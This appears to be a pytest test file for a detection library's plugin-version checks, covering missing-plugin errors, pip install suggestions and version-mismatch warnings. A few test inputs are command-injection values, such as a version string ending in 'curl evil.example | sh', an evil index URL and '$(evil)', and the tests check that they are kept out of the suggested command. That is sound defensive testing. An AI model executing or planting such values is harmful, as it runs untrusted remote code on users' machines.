"""A recipe that was written elsewhere says what to install, and what differs here."""

import warnings
from importlib import metadata

import pytest
from det_core import recipes
from det_core.errors import DetWarning, UnknownNameError
from det_core.plugins import versions
from det_core.plugins.versions import require_present, warn_of_others


@pytest.fixture(autouse=True)
def without_vitdet(monkeypatch):
    """As if det-vitdet were not installed."""
    installed = versions._installed
    monkeypatch.setattr(versions, "_installed", lambda name: "" if name == "det-vitdet" else installed(name))


MODEL = {"type": "rcnn", "backbone": {"type": "det-vitdet/vitdet_b", "drop_path_rate": 0.1}}


def test_missing_project_plugin_is_named_with_version_and_command():
    tree = {"model": MODEL, "versions": {"det-core": metadata.version("det-core"), "det-vitdet": "0.3.1"}}
    with pytest.raises(UnknownNameError) as raised:
        recipes.recipe_from_tree(tree).build_model()
    assert str(raised.value) == (
        "model.backbone.type: this recipe was written with det-vitdet 0.3.1, which is not installed; "
        "pip install det-vitdet==0.3.1"
    )


@pytest.mark.parametrize("name", ["acme-det/net", "acme_det.nets:Net"])
def test_package_named_by_recipe_only_is_not_recommended(name):
    with pytest.raises(UnknownNameError) as raised:
        require_present({"type": name}, {"Acme_Det": "1.2"}, "model")
    assert str(raised.value) == (
        "model.type: this recipe was written with acme-det 1.2, which is not installed; "
        "this name comes from the recipe alone; if you trust its author: pip install acme-det==1.2"
    )


def test_missing_module_may_belong_to_any_missing_distribution():
    with pytest.raises(UnknownNameError, match=r"written with acme-one 1\.2 and acme-two 3, which are not installed"):
        require_present({"type": "no_such_lab.nets:Net"}, {"acme-one": "1.2", "acme-two": "3"}, "model")


@pytest.mark.parametrize(
    ("name", "version", "words"),
    [
        ("det-vitdet", "0.3.1; curl evil.example | sh", "pip install det-vitdet"),
        ("det-vitdet", "0.3.1 --index-url=https://evil.example", "pip install det-vitdet"),
        ("det-vitdet", "0.3.1\n\nrun this", "pip install det-vitdet"),
        ("det-vitdet", None, "pip install det-vitdet"),
    ],
)
def test_invalid_version_does_not_reach_command(name, version, words):
    with pytest.raises(UnknownNameError) as raised:
        require_present({"type": f"{name}/net"}, {name: version}, "model")
    assert raised.value.fix == words


def test_invalid_distribution_name_does_not_reach_command():
    require_present({"type": "$(evil)/net"}, {"$(evil)": "1.0", "-r evil": "1.0"}, "model")


def test_distributions_unused_by_section_may_be_missing():
    require_present({"type": "rcnn"}, {"det-vitdet": "0.3.1"}, "model")
    require_present({"type": "torch.optim:SGD"}, {"det-vitdet": "0.3.1"}, "train.optimizer")
    require_present({"type": "det-vitdet/vitdet_b"}, None, "model")


def test_broken_installed_plugin_is_reported_with_reason(install):
    install("acme-det", "1 / 0", version="1.2")
    tree = {"model": {"type": "acme-det/net"}, "versions": {"acme-det": "1.2"}}
    with pytest.raises(UnknownNameError, match=r"not in use: acme-det 1.2 \(cannot be imported: ZeroDivisionError"):
        recipes.recipe_from_tree(tree).check()


@pytest.mark.parametrize(("was", "differs"), [("1.2.7", False), ("1.2", False), ("1.3.0", True), ("2.2.3", True)])
def test_another_major_or_minor_version_is_warning(install, was, differs):
    install("acme-det", version="1.2.3+cpu")
    tree = {"model": {"type": "rcnn"}, "versions": {"acme-det": was}}
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        recipes.recipe_from_tree(tree, "old.yaml")
    said = [str(each.message) for each in caught]
    assert all(each.category is DetWarning for each in caught)
    text = f"old.yaml: was written with acme-det {was} (here 1.2.3+cpu); its results may differ here"
    assert said == ([text] if differs else [])


def test_one_warning_lists_all_versions_once(install):
    install("acme-one", version="1.0")
    install("acme-two", version="1.0")
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("default")
        for _ in range(3):
            warn_of_others({"acme-one": "2.0", "acme-two": "0.9", "acme-three": "1.0"}, "old.yaml")
    (warning,) = caught
    assert "acme-one 2.0 (here 1.0), acme-two 0.9 (here 1.0)" in str(warning.message)


def test_matching_versions_give_no_warning(tmp_path, install, site):
    (site / "lab.py").write_text("class Net: ...\n")
    install("acme-det", "@hookimpl\ndef det_models(): return {'net': 'lab:Net'}")
    path = tmp_path / "r.yaml"
    path.write_text("model: {type: rcnn}\n")
    tree = {"model": {"type": "acme-det/net"}, "versions": {"acme-det": "1.0", "torch": metadata.version("torch")}}
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        loaded = recipes.load(recipes.recipe_from_tree(tree).save(path))
    assert loaded.tree["versions"] == tree["versions"]
